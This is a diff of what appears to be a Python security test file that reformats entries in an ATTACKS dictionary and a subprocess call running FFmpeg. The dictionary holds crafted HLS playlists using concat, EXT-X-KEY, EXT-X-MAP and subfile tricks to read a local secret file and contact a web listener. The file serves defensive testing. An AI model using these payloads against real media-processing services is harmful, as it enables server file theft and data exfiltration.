@@ -58,9 +58,7 @@ ATTACKS: dict[str, str] = {
     "hls with a key": HLS.format(
         lines='#EXT-X-KEY:METHOD=AES-128,URI="http://{web}/k"\n#EXTINF:1,\nfile://{file}'
     ),
-    "hls that joins": HLS.format(
-        lines="#EXTINF:1,\nconcat:http://{web}/header.m3u8|file://{file}"
-    ),
+    "hls that joins": HLS.format(lines="#EXTINF:1,\nconcat:http://{web}/header.m3u8|file://{file}"),
     "hls with a map": HLS.format(lines='#EXT-X-MAP:URI="http://{web}/m"\n#EXTINF:1,\n{file}'),
     "hls of hls": HLS.format(lines="#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{web}/b.m3u8"),
     "hls of a part": HLS.format(lines="#EXTINF:1,\nsubfile,,start,0,end,64,,:{file}"),
@@ -108,7 +106,16 @@ def test_the_traps_work(tmp_path: Path, secret: Path, listener: Listener) -> Non
     (tmp_path / "a.mp4").write_text(text)
     unprotected = ["-f", "hls", "-allowed_extensions", "ALL", "-i", str(tmp_path / "a.mp4")]
     told = subprocess.run(
-        [FFMPEG, "-nostdin", "-protocol_whitelist", "file,http,tcp", *unprotected, "-f", "null", "-"],
+        [
+            FFMPEG,
+            "-nostdin",
+            "-protocol_whitelist",
+            "file,http,tcp",
+            *unprotected,
+            "-f",
+            "null",
+            "-",
+        ],
         capture_output=True,
         text=True,
         check=False,
